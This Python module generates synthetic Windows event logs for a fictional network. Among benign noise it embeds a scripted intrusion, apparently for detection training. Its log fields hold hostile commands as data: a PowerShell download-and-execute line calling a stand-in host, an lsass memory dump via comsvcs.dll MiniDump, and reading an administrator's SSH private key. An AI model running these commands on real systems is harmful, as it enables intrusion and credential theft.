"""Windows events as NXLog ships them: Sysmon, Security, System and PowerShell, one flat object each."""

from __future__ import annotations

import random
import uuid
from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any

from tools.sample.telemetry.clock import Happening, at, moments, stamp

__all__ = ["happenings"]

_SYSMON = "Microsoft-Windows-Sysmon/Operational"
_POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
_DOMAIN = "HAVENSTAD"
_SYS32 = r"C:\Windows\System32"
_OFFICE = r"C:\Program Files\Microsoft Office\root\Office16"
_VICTIM, _VICTIM_IP, _VICTIM_USER = "WS-0417.havenstad.example", "10.50.4.117", "hvs-1042"
_ADMIN_HOST, _ADMIN_IP, _ADMIN_USER = "BEHEER-01.havenstad.example", "10.50.8.21", "adm-0007"
_WORKSTATIONS = [f"WS-{number:04d}.havenstad.example" for number in range(401, 441)]
_SERVERS = ["DC-01.havenstad.example", "FS-01.havenstad.example", _ADMIN_HOST]
_USERS = [f"hvs-{number}" for number in range(1030, 1070)]

_PROGRAMS = (
    (rf"{_OFFICE}\OUTLOOK.EXE", rf'"{_OFFICE}\OUTLOOK.EXE"', r"C:\Windows\explorer.exe"),
    (rf"{_OFFICE}\WINWORD.EXE", rf'"{_OFFICE}\WINWORD.EXE" /n', r"C:\Windows\explorer.exe"),
    (rf"{_OFFICE}\EXCEL.EXE", rf'"{_OFFICE}\EXCEL.EXE" /dde', r"C:\Windows\explorer.exe"),
    (
        r"C:\Program Files\Mozilla Firefox\firefox.exe",
        r'"C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc',
        r"C:\Program Files\Mozilla Firefox\firefox.exe",
    ),
    (r"C:\Windows\explorer.exe", r"C:\Windows\explorer.exe", rf"{_SYS32}\userinit.exe"),
    (rf"{_SYS32}\svchost.exe", rf"{_SYS32}\svchost.exe -k netsvcs -p", rf"{_SYS32}\services.exe"),
    (rf"{_SYS32}\taskhostw.exe", "taskhostw.exe", rf"{_SYS32}\svchost.exe"),
    (rf"{_SYS32}\RuntimeBroker.exe", rf"{_SYS32}\RuntimeBroker.exe -Embedding", rf"{_SYS32}\svchost.exe"),
    (rf"{_SYS32}\notepad.exe", rf"{_SYS32}\notepad.exe", r"C:\Windows\explorer.exe"),
    (
        r"C:\Program Files\Zaken\zaakclient.exe",
        r'"C:\Program Files\Zaken\zaakclient.exe" --server zaken.havenstad.example',
        r"C:\Windows\explorer.exe",
    ),
)


def _identifier(dice: random.Random) -> str:
    return "{" + str(uuid.UUID(int=dice.getrandbits(128), version=4)).upper() + "}"


def _base(moment: datetime, host: str, channel: str, event: int, source: str) -> dict[str, Any]:
    return {
        "EventTime": (moment + timedelta(hours=1)).strftime("%Y-%m-%d %H:%M:%S"),
        "@timestamp": stamp(moment),
        "Hostname": host,
        "Channel": channel,
        "EventID": event,
        "SourceName": source,
        "Severity": "INFO",
        "SourceModuleName": "eventlog",
        "SourceModuleType": "im_msvistalog",
    }


def _sysmon(moment: datetime, host: str, event: int, **fields: Any) -> dict[str, Any]:
    utc = moment.strftime("%Y-%m-%d %H:%M:%S.") + f"{moment.microsecond // 1000:03d}"
    return {**_base(moment, host, _SYSMON, event, "Microsoft-Windows-Sysmon"), "UtcTime": utc, **fields}


def _process(
    moment: datetime,
    dice: random.Random,
    host: str,
    user: str,
    image: str,
    command: str,
    parent: str,
    **more: Any,
) -> dict[str, Any]:
    fields = {
        "RuleName": "-",
        "ProcessGuid": _identifier(dice),
        "ProcessId": dice.randrange(1000, 20000, 4),
        "Image": image,
        "OriginalFileName": image.rsplit("\\", 1)[-1],
        "CommandLine": command,
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": f"{_DOMAIN}\\{user}",
        "LogonId": hex(dice.randrange(0x10000, 0xFFFFFF)),
        "IntegrityLevel": "Medium",
        "Hashes": f"SHA256={dice.getrandbits(256):064X}",
        "ParentProcessGuid": _identifier(dice),
        "ParentProcessId": dice.randrange(500, 9000, 4),
        "ParentImage": parent,
        "ParentCommandLine": f'"{parent}"',
        "ParentUser": f"{_DOMAIN}\\{user}",
    }
    return _sysmon(moment, host, 1, **{**fields, **more})


def _start(moment: datetime, dice: random.Random) -> dict[str, Any]:
    place = dice.randrange(len(_WORKSTATIONS))
    image, command, parent = dice.choice(_PROGRAMS)
    return _process(moment, dice, _WORKSTATIONS[place], _USERS[place], image, command, parent)


def _connection(moment: datetime, dice: random.Random) -> dict[str, Any]:
    place = dice.randrange(len(_WORKSTATIONS))
    image = dice.choice(
        (r"C:\Program Files\Mozilla Firefox\firefox.exe", rf"{_OFFICE}\OUTLOOK.EXE", _PROGRAMS[9][0])
    )
    return _sysmon(
        moment,
        _WORKSTATIONS[place],
        3,
        ProcessGuid=_identifier(dice),
        ProcessId=dice.randrange(1000, 20000, 4),
        Image=image,
        User=f"{_DOMAIN}\\{_USERS[place]}",
        Protocol="tcp",
        Initiated="true",
        SourceIp=f"10.50.4.{101 + place}",
        SourcePort=dice.randrange(49152, 65535),
        DestinationIp=f"10.20.0.{dice.randrange(10, 60)}",
        DestinationHostname=dice.choice(
            ("zaken.havenstad.example", "mail.havenstad.example", "intranet.havenstad.example")
        ),
        DestinationPort=443,
    )


def _logon(moment: datetime, dice: random.Random) -> dict[str, Any]:
    place = dice.randrange(len(_WORKSTATIONS))
    event = dice.choices((4624, 4634, 4625, 4672), (10, 9, 1, 1))[0]
    fields = {
        "TargetUserName": _USERS[place],
        "TargetDomainName": _DOMAIN,
        "TargetLogonId": hex(dice.randrange(0x10000, 0xFFFFFF)),
        "LogonType": dice.choice((2, 3, 3, 7)),
        "IpAddress": f"10.50.4.{101 + place}",
        "WorkstationName": _WORKSTATIONS[place].split(".")[0],
    }
    if event == 4624:
        fields.update({"LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos"})
    if event == 4625:
        fields.update({"Status": "0xc000006d", "SubStatus": "0xc000006a", "FailureReason": "%%2313"})
    host = dice.choice((*_SERVERS, _WORKSTATIONS[place]))
    return {**_base(moment, host, "Security", event, "Microsoft-Windows-Security-Auditing"), **fields}


def _file(moment: datetime, dice: random.Random) -> dict[str, Any]:
    place = dice.randrange(len(_WORKSTATIONS))
    user = _USERS[place]
    name = f"nota-{dice.randrange(10000)}.docx"
    return _sysmon(
        moment,
        _WORKSTATIONS[place],
        11,
        ProcessGuid=_identifier(dice),
        ProcessId=dice.randrange(1000, 20000, 4),
        Image=rf"{_OFFICE}\WINWORD.EXE",
        TargetFilename=rf"C:\Users\{user}\Documents\{name}",
        User=f"{_DOMAIN}\\{user}",
    )


def _service_state(moment: datetime, dice: random.Random) -> dict[str, Any]:
    host = dice.choice((*_WORKSTATIONS, *_SERVERS))
    fields = {"param1": dice.choice(("Windows Update", "Print Spooler", "Windows Time")), "param2": "running"}
    return {**_base(moment, host, "System", 7036, "Service Control Manager"), **fields}


def _script(moment: datetime, dice: random.Random) -> dict[str, Any]:
    text = dice.choice(
        (
            "Get-Service -Name Spooler | Select-Object Status",
            "Get-PSDrive -PSProvider FileSystem",
            "Get-HotFix | Sort-Object InstalledOn",
        )
    )
    fields = {
        "MessageNumber": 1,
        "MessageTotal": 1,
        "ScriptBlockText": text,
        "ScriptBlockId": _identifier(dice),
    }
    return {**_base(moment, _ADMIN_HOST, _POWERSHELL, 4104, "Microsoft-Windows-PowerShell"), **fields}


_NOISE: tuple[tuple[Callable[[datetime, random.Random], dict[str, Any]], int], ...] = (
    (_start, 4800),
    (_connection, 3600),
    (_logon, 3200),
    (_file, 900),
    (_service_state, 400),
    (_script, 100),
)


def happenings() -> list[Happening]:
    """Every Windows event of the week."""
    found = [
        Happening(moment, make(moment, dice))
        for make, count in _NOISE
        for moment, dice in moments(f"windows {make.__name__}", count)
    ]
    return [*found, *_attack()]


def _attack() -> list[Happening]:
    dice = random.Random("havenstad windows attack")
    shell = rf"{_SYS32}\WindowsPowerShell\v1.0\powershell.exe"
    encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    dump = rf"C:\Users\{_VICTIM_USER}\AppData\Local\Temp\lsass.dmp"

    def ran(moment: datetime, image: str, command: str, parent: str, **more: Any) -> dict[str, Any]:
        return _process(moment, dice, _VICTIM, _VICTIM_USER, image, command, parent, **more)

    mail, shells, reach = at(27, 12, 12, 4), at(27, 12, 12, 41), at(27, 12, 12, 48)
    script, who, admins = at(27, 12, 12, 52), at(27, 12, 40, 10), at(27, 12, 41, 2)
    dumps, opens, writes = at(27, 13, 2, 15), at(27, 13, 2, 16), at(27, 13, 2, 17)
    logon, installs, pipe, child = at(27, 13, 31, 5), at(27, 13, 31, 7), at(27, 13, 31, 8), at(27, 13, 31, 11)
    return [
        Happening(
            mail,
            ran(
                mail,
                rf"{_OFFICE}\WINWORD.EXE",
                rf'"{_OFFICE}\WINWORD.EXE" /n "C:\Users\{_VICTIM_USER}\AppData\Local\Microsoft\Windows'
                r'\INetCache\Content.Outlook\8QX2\Factuur-oktober.docm"',
                rf"{_OFFICE}\OUTLOOK.EXE",
            ),
            "mail",
            "the attachment of a mail is opened in Word",
            "Sysmon 1: WINWORD.EXE from Content.Outlook, parent OUTLOOK.EXE",
        ),
        Happening(
            shells,
            ran(
                shells,
                shell,
                f"powershell.exe -nop -w hidden -EncodedCommand {encoded}",
                rf"{_OFFICE}\WINWORD.EXE",
                OriginalFileName="PowerShell.EXE",
            ),
            "execution",
            "Word starts PowerShell with an encoded command",
            "Sysmon 1: powershell.exe -EncodedCommand, parent WINWORD.EXE",
        ),
        Happening(
            reach,
            _sysmon(
                reach,
                _VICTIM,
                3,
                ProcessGuid=_identifier(dice),
                ProcessId=7716,
                Image=shell,
                User=f"{_DOMAIN}\\{_VICTIM_USER}",
                Protocol="tcp",
                Initiated="true",
                SourceIp=_VICTIM_IP,
                SourcePort=50122,
                DestinationIp="203.0.113.45",
                DestinationHostname="cdn.facturen.example",
                DestinationPort=443,
            ),
            "execution",
            "PowerShell connects to the attacker",
            "Sysmon 3: powershell.exe to a public address",
        ),
        Happening(
            script,
            {
                **_base(script, _VICTIM, _POWERSHELL, 4104, "Microsoft-Windows-PowerShell"),
                "MessageNumber": 1,
                "MessageTotal": 1,
                "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('https://cdn.facturen.example/a')",
                "ScriptBlockId": _identifier(dice),
            },
            "execution",
            "the script it runs is logged",
            "PowerShell 4104: Net.WebClient DownloadString",
        ),
        Happening(
            who,
            ran(who, rf"{_SYS32}\whoami.exe", "whoami /all", shell),
            "discovery",
            "who am I",
            "Sysmon 1: whoami.exe /all, parent powershell.exe",
        ),
        Happening(
            admins,
            ran(admins, rf"{_SYS32}\net.exe", 'net group "domain admins" /domain', shell),
            "discovery",
            "who are the administrators",
            'Sysmon 1: net group "domain admins" /domain',
        ),
        Happening(
            dumps,
            ran(
                dumps,
                rf"{_SYS32}\rundll32.exe",
                rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 {dump} full",
                shell,
                OriginalFileName="RUNDLL32.EXE",
                IntegrityLevel="High",
            ),
            "credentials",
            "the memory of lsass is dumped with comsvcs.dll",
            "Sysmon 1: rundll32.exe comsvcs.dll MiniDump",
        ),
        Happening(
            opens,
            _sysmon(
                opens,
                _VICTIM,
                10,
                SourceProcessGUID=_identifier(dice),
                SourceProcessId=8120,
                SourceImage=rf"{_SYS32}\rundll32.exe",
                TargetProcessGUID=_identifier(dice),
                TargetProcessId=712,
                TargetImage=rf"{_SYS32}\lsass.exe",
                GrantedAccess="0x1fffff",
                CallTrace=r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\SYSTEM32\dbgcore.DLL+6c1f"
                r"|C:\Windows\System32\comsvcs.dll+2b3e1",
                SourceUser=f"{_DOMAIN}\\{_VICTIM_USER}",
                TargetUser="NT AUTHORITY\\SYSTEM",
            ),
            "credentials",
            "lsass is opened with full access",
            "Sysmon 10: lsass.exe, 0x1fffff, comsvcs.dll in the call trace",
        ),
        Happening(
            writes,
            _sysmon(
                writes,
                _VICTIM,
                11,
                ProcessGuid=_identifier(dice),
                ProcessId=8120,
                Image=rf"{_SYS32}\rundll32.exe",
                TargetFilename=dump,
                User=f"{_DOMAIN}\\{_VICTIM_USER}",
            ),
            "credentials",
            "the dump is written",
            "Sysmon 11: lsass.dmp",
        ),
        Happening(
            logon,
            {
                **_base(logon, _ADMIN_HOST, "Security", 4624, "Microsoft-Windows-Security-Auditing"),
                "SubjectUserSid": "S-1-0-0",
                "SubjectUserName": "-",
                "TargetUserName": _ADMIN_USER,
                "TargetDomainName": _DOMAIN,
                "TargetLogonId": "0x8a41f2",
                "LogonType": 3,
                "LogonProcessName": "NtLmSsp",
                "AuthenticationPackageName": "NTLM",
                "IpAddress": _VICTIM_IP,
                "WorkstationName": "WS-0417",
                "KeyLength": 0,
            },
            "lateral",
            "an administrator's hash is used from the victim's workstation",
            "Security 4624: NTLM, logon type 3, key length 0, from 10.50.4.117",
        ),
        Happening(
            installs,
            {
                **_base(installs, _ADMIN_HOST, "System", 7045, "Service Control Manager"),
                "Provider_Name": "Service Control Manager",
                "ServiceName": "PSEXESVC",
                "ImagePath": r"%SystemRoot%\PSEXESVC.exe",
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
            "lateral",
            "PsExec installs its service on the administration host",
            "System 7045: PSEXESVC",
        ),
        Happening(
            pipe,
            _sysmon(
                pipe,
                _ADMIN_HOST,
                17,
                EventType="CreatePipe",
                ProcessGuid=_identifier(dice),
                ProcessId=4412,
                PipeName=r"\PSEXESVC",
                Image=r"C:\Windows\PSEXESVC.exe",
                User="NT AUTHORITY\\SYSTEM",
            ),
            "lateral",
            "its pipe appears",
            r"Sysmon 17: \PSEXESVC",
        ),
        Happening(
            child,
            _process(
                child,
                dice,
                _ADMIN_HOST,
                _ADMIN_USER,
                rf"{_SYS32}\cmd.exe",
                r"cmd.exe /c type C:\Users\adm-0007\.ssh\id_ed25519",
                r"C:\Windows\PSEXESVC.exe",
                OriginalFileName="Cmd.Exe",
                IntegrityLevel="System",
                User="NT AUTHORITY\\SYSTEM",
                ParentUser="NT AUTHORITY\\SYSTEM",
            ),
            "lateral",
            "it reads the administrator's SSH key",
            "Sysmon 1: cmd.exe, parent PSEXESVC.exe",
        ),
    ]
